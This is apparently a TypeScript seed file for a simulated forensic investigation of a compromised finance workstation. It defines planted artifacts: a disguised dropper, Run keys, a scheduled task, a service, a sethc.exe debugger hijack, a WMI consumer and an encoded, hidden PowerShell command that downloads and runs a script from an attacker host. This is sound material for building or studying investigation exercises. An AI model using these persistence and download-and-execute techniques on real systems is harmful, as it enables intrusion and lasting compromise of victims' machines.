import { ATTACKER } from './profiles.ts'

/** What happened on the finance computer: the facts on which several parts of the seed must agree. */

/** The dropper is on the disk twice, hidden, under two names; both are the same program. */
export const RUN_COPY = 'C:\\Users\\Public\\svchost.exe'
export const ROAMING_COPY = 'C:\\Users\\j.moreau\\AppData\\Roaming\\Microsoft\\OneDriveSync\\OneDriveSync.exe'
export const DROPPER_ORIGIN = 'updclient.exe'
export const DROPPER_SIZE = 417_792

export const HKLM_RUN = { name: 'SecurityHealthUpdate', data: `"${RUN_COPY}" -k netsvcs` }
export const HKCU_RUN = { name: 'OneDriveSync', data: `"${ROAMING_COPY}" /background` }

export const TASK = { name: 'OneDriveSyncTask', guid: '{6F2B9C1A-7D43-4E55-9A0E-3B61C58F0D27}', author: 'WIN-PC\\updsvc' }

export const POWERSHELL_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a.ps1')`
const ENCODED = Buffer.from(POWERSHELL_SCRIPT, 'utf16le').toString('base64')
export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${ENCODED}`

/** A service that starts the dropper at each boot; it was made after the last one. */
export const SERVICE = { name: 'WinUpdateHlp', display: 'Windows Update Helper', command: `"${RUN_COPY}" -service` }
/** Five times Shift at the logon screen opens a prompt as SYSTEM. */
export const HIJACK = { program: 'sethc.exe', debugger: 'C:\\Windows\\System32\\cmd.exe' }
/** WMI runs this whenever its filter is met. */
export const CONSUMER = { name: 'WindowsUpdateWatch', command: POWERSHELL_LINE }

export const DOWNLOAD_URL = 'https://files.secure-invoices.example/d/8841/Invoice_8841.iso'

/** The task as Windows keeps it: UTF-16 with a byte order mark. @param start ISO 8601, local time */
export function taskXml(task: {
  uri: string
  author: string
  command: string
  arguments: string
  start: string
  user: string
  hidden: boolean
}): Uint8Array {
  const xml = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>${task.start}</Date>
    <Author>${task.author}</Author>
    <URI>${task.uri}</URI>
  </RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <Repetition>
        <Interval>PT15M</Interval>
      </Repetition>
      <StartBoundary>${task.start}</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>${task.user}</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>${task.hidden}</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>${task.command}</Command>
      <Arguments>${task.arguments}</Arguments>
    </Exec>
  </Actions>
</Task>
`
  return Buffer.from(`\ufeff${xml.replace(/\n/g, '\r\n')}`, 'utf16le')
}
